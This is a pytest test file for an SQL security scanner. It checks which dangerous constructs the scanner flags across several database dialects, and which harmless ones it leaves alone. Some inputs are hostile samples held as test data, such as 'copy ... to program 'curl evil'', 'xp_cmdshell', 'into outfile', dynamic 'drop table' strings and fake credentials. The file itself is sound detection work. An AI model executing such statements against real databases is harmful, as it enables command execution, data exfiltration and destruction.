"""The security scan: what it finds in scripts, where, and what it leaves in peace."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.kit.errors import InvalidArgument
from services.validation.core.scan.scan import MAX_FINDINGS, scan_text


def reasons(text: str, dialect: str = "postgres") -> set[str]:
    return {finding.reason for finding in scan_text(text, dialect).findings}


@pytest.mark.parametrize(
    ("dialect", "text", "reason"),
    [
        ("tsql", "exec('select ' + @x)", "SQL_DYNAMIC"),
        ("tsql", "EXEC sp_executesql @sql", "SQL_DYNAMIC"),
        ("tsql", "execute (@a)", "SQL_DYNAMIC"),
        ("mysql", "prepare st from @s", "SQL_DYNAMIC"),
        ("snowflake", "execute immediate :stmt", "SQL_DYNAMIC"),
        ("bigquery", "EXECUTE IMMEDIATE q", "SQL_DYNAMIC"),
        ("postgres", "do $$ begin execute 'drop table ' || t; end $$", "SQL_DYNAMIC"),
        ("postgres", "do $$ begin execute format('select * from %s', t); end $$", "SQL_INJECTION_PRONE"),
        ("postgres", "select * from dblink('h', 'select 1') as t(a int)", "SQL_DYNAMIC"),
        ("tsql", "set @s = 'select * from t where n = ' + @n; exec(@s)", "SQL_INJECTION_PRONE"),
        ("mysql", "set @s = concat('select * from ', @t); prepare p from @s", "SQL_INJECTION_PRONE"),
        ("snowflake", "select * from t where n = '${name}' or n = ${name}", "SQL_INJECTION_PRONE"),
        ("snowflake", "select * from {{ source }}", "SQL_INJECTION_PRONE"),
        ("postgres", "grant all privileges on t to bob", "SQL_GRANT_EXCESSIVE"),
        ("postgres", "grant select on t to public", "SQL_GRANT_EXCESSIVE"),
        ("postgres", "grant select on t to bob with grant option", "SQL_GRANT_EXCESSIVE"),
        ("postgres", "alter role bob superuser", "SQL_GRANT_EXCESSIVE"),
        (
            "postgres",
            "create function f() returns int security definer as 'select 1'",
            "SQL_GRANT_EXCESSIVE",
        ),
        ("mysql", "grant select on *.* to 'bob'@'%'", "SQL_GRANT_EXCESSIVE"),
        ("tsql", "alter role db_owner add member bob", "SQL_GRANT_EXCESSIVE"),
        ("snowflake", "grant role accountadmin to user bob", "SQL_GRANT_EXCESSIVE"),
        ("postgres", "alter user bob password 'hunter2'", "SQL_SECRET_IN_TEXT"),
        ("mysql", "create user bob identified by 'hunter2'", "SQL_SECRET_IN_TEXT"),
        ("postgres", "select 'AKIAABCDEFGHIJKLMNOP'", "SQL_SECRET_IN_TEXT"),
        ("postgres", "insert into c values ('postgres://app:hunter2@db/shop')", "SQL_SECRET_IN_TEXT"),
        ("postgres", "insert into c values ('-----BEGIN RSA PRIVATE KEY-----')", "SQL_SECRET_IN_TEXT"),
        ("tsql", "select 'Server=db;Password=hunter2;'", "SQL_SECRET_IN_TEXT"),
        ("postgres", "select id, email from customers", "SQL_PERSONAL_DATA"),
        ("postgres", "select upper(c.last_name) as n from customers c", "SQL_PERSONAL_DATA"),
        ("postgres", "delete from orders", "SQL_DESTRUCTIVE"),
        ("postgres", "update orders set a = 1 where 1 = 1", "SQL_DESTRUCTIVE"),
        ("postgres", "truncate orders", "SQL_DESTRUCTIVE"),
        ("postgres", "drop table if exists orders", "SQL_DESTRUCTIVE"),
        ("postgres", "copy t to program 'curl evil'", "SQL_CONSTRUCT_REFUSED"),
        ("tsql", "exec xp_cmdshell 'dir'", "SQL_CONSTRUCT_REFUSED"),
        ("mysql", "select * from t into outfile '/tmp/x'", "SQL_CONSTRUCT_REFUSED"),
        ("duckdb", "attach 'other.db'", "SQL_CONSTRUCT_REFUSED"),
        ("postgres", "select 'never closed", "SQL_NOT_SCANNED"),
    ],
)
def test_danger_is_found(dialect: str, text: str, reason: str) -> None:
    assert reason in reasons(text, dialect)


@pytest.mark.parametrize(
    "text",
    [
        "select id, amount from orders where placed > '2024-01-01'",
        "select count(email) from customers",
        "delete from orders where id = 3",
        "update orders set amount = 0 where id = 3",
        "grant select on orders to reporting",
        "-- grant all on t to public\nselect 1",
        "select 'grant all on t to public; drop table x' as note",
        "select a || ' ' || b from names",
        "create table t (id int, password_changed date)",
        "select * from orders /* exec('x') */",
        "create index i on orders (customer_id)",
    ],
)
def test_harmless_sql_is_left_in_peace(text: str) -> None:
    assert reasons(text) == set()


def test_each_finding_has_its_place_in_the_script() -> None:
    script = "select 1;\n\nselect id,\n  email from c;\ngrant all on t to bob;"
    found = {each.reason: each.span for each in scan_text(script, "postgres").findings}
    assert (found["SQL_PERSONAL_DATA"].line, found["SQL_PERSONAL_DATA"].column) == (4, 3)  # type: ignore[union-attr]
    assert (found["SQL_GRANT_EXCESSIVE"].line, found["SQL_GRANT_EXCESSIVE"].column) == (5, 1)  # type: ignore[union-attr]
    assert scan_text(script, "postgres").statement_count == 3


def test_batches_of_sql_server_end_with_go() -> None:
    assert scan_text("select 1\nGO\nselect 2\ngo\n", "tsql").statement_count == 2


def test_very_many_findings_are_bounded() -> None:
    assert len(scan_text("drop table t;" * 1200, "postgres").findings) <= MAX_FINDINGS


def test_a_deep_statement_is_judged_by_its_words_and_kills_nobody() -> None:
    text = "select " + "(" * 5000 + "1" + ")" * 5000 + "; grant all on t to bob"
    assert reasons(text) == {"SQL_NOT_SCANNED", "SQL_GRANT_EXCESSIVE"}


def test_too_long_a_text_and_an_unknown_dialect_are_refused() -> None:
    for text, dialect, reason in (
        ("x" * (1 << 20) + "x", "postgres", "SQL_TOO_LARGE"),
        ("x", "db9", "DIALECT_UNKNOWN"),
    ):
        with pytest.raises(InvalidArgument) as caught:
            scan_text(text, dialect)
        assert caught.value.reason == reason


@given(st.text(max_size=300), st.sampled_from(["postgres", "mysql", "tsql", "snowflake", "bigquery", "sqlite"]))
def test_any_text_is_scanned_or_said_not_to_be(text: str, dialect: str) -> None:
    for finding in scan_text(text, dialect).findings:
        assert finding.message


def test_a_statement_that_no_parser_survives_is_scanned_by_its_words() -> None:
    text = "SELECT 1 FROM t " + "JOIN t " * 30 + "; truncate t"
    assert reasons(text) == {"SQL_NOT_SCANNED", "SQL_DESTRUCTIVE"}
